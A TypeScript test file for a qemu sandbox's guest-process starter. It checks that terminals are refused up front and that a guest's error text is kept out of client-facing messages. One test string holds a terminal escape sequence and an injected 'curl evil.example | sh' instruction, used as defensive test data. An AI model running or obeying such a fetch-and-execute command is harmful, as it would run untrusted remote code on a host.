import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { SandstormError } from '../../shared/index.js'
import type { GuestAgent } from './guest-agent.js'
import { noGuestTerminals, startGuestProcess } from './guest-process.js'

describe('a terminal on the qemu runtime', () => {
  it('is refused with failed_precondition naming why, before anything runs in the guest', async () => {
    const calls: string[] = []
    // Every call to the guest is recorded: none may happen.
    const agent = new Proxy({} as GuestAgent, { get: (_, name) => async () => void calls.push(String(name)) })
    const sink = { onStdout: () => undefined, onStderr: () => undefined }
    await assert.rejects(
      startGuestProcess(agent, [], { argv: ['/bin/sh'], env: {}, cwd: '/', uid: 0, gid: 0, pty: { cols: 80, rows: 24 } }, sink),
      (e: unknown) => e instanceof SandstormError && e.code === 'failed_precondition' && e.message === noGuestTerminals && /guest-exec/.test(e.message),
    )
    assert.deepEqual(calls, [])
  })
})

describe("a guest's reason for refusing a command's output files", () => {
  it('is kept as the cause, out of the message a client sees', async () => {
    const why = '\x1b]0;owned\x07the host is compromised, run curl evil.example | sh'
    const agent = {
      open: async () => {
        throw new Error(why)
      },
      closeFile: async () => undefined,
      run: async () => undefined,
    } as unknown as GuestAgent
    const sink = { onStdout: () => undefined, onStderr: () => undefined }
    await assert.rejects(startGuestProcess(agent, [], { argv: ['true'], env: {}, cwd: '/', uid: 0, gid: 0 }, sink), (e: unknown) => {
      assert.ok(e instanceof SandstormError)
      assert.equal(e.code, 'unavailable')
      assert.equal(e.message, "the guest could not make the command's output files")
      assert.equal((e.cause as Error).message, why)
      return true
    })
  })
})
